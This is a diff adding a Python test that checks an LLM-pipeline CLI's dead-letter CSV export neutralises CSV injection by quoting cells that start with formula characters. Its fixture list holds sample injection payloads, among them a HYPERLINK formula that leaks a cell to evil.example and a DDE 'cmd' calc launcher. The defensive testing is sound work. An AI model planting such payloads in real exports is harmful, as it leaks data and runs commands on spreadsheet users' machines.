@@ -1,6 +1,8 @@
 """The `llm-assets` command as scripts use it: a real subprocess, a persistent instance."""
 
+import csv
 import datetime as dt
+import io
 import json
 import os
 import subprocess
@@ -12,8 +14,10 @@ import yaml
 from dagster._core.instance.ref import InstanceRef
 
 from llm_assets.demo_data import generate_demo_data
+from llm_assets.resources.ledger import DEAD_LETTER, LedgerResource
 from llm_assets.settings import REPO_ROOT
 from tests.harness import CLI
+from tests.ledger_helpers import set_item_status
 
 # One database: these tests drive the CLI as a subprocess; the ledger tests and the pipeline
 # tests compare SQLite and PostgreSQL.
@@ -51,6 +55,7 @@ class Env:
         self.generated = generate_demo_data(
             self.home / "demo", start=DAY, days=1, tickets_per_day=12
         )
+        self.database_url = database_url
         self.vars = {
             **os.environ,
             "LLM_ASSETS_HOME": str(self.home),
@@ -157,3 +162,48 @@ def test_status_of_an_untouched_day_says_so(env: Env) -> None:
 
     assert result.returncode == 0
     assert "nothing has run" in result.stdout
+
+
+def test_dead_letter_csv_cells_never_run_as_spreadsheet_formulas(env: Env) -> None:
+    """A cell starting with =, +, -, @, a tab or a carriage return gets a single quote before
+    it (OWASP, CSV injection); the reasons come from providers and source data."""
+    day = ("--date", DAY.isoformat())
+    ran = env.run("run", "support_tickets", *day, "--approve-budget", "--json")
+    assert ran.returncode == 0, ran.stderr
+    dead = json.loads(env.run("dead-letter", "support_tickets", *day, "--json").stdout)
+    reasons = [
+        '=HYPERLINK("http://evil.example/?"&A1,"details")',
+        "+1+cmd|' /C calc'!A0",
+        "\rcarriage return",
+        "@SUM(A1:A9)",
+        "\tindented",
+    ]
+    assert len(dead) == len(reasons)
+    [job] = json.loads(env.run("status", "support_tickets", *day, "--json").stdout)["jobs"]
+    ledger = LedgerResource(database_url=env.database_url)
+    for row, reason in zip(dead, reasons, strict=True):
+        moved = set_item_status(
+            ledger,
+            job["job_id"],
+            [row["custom_id"]],
+            from_status=[DEAD_LETTER],
+            error_message=reason,
+            source_id=f"-{row['source_id']}",
+        )
+        assert moved == 1
+
+    # As bytes: text mode would turn the carriage return into a newline.
+    listed = subprocess.run(
+        [CLI, "dead-letter", "support_tickets", *day, "--csv"],
+        env=env.vars,
+        capture_output=True,
+        timeout=600,
+        check=False,
+    )
+
+    assert listed.returncode == 0, listed.stderr
+    rows = list(csv.DictReader(io.StringIO(listed.stdout.decode(), newline="")))
+    assert [r["error_message"] for r in rows] == [f"'{reason}" for reason in reasons]
+    assert [r["source_id"] for r in rows] == [f"'-{d['source_id']}" for d in dead]
+    assert [r["custom_id"] for r in rows] == [d["custom_id"] for d in dead]
+    assert [r["attempts"] for r in rows] == [str(d["attempts"]) for d in dead]
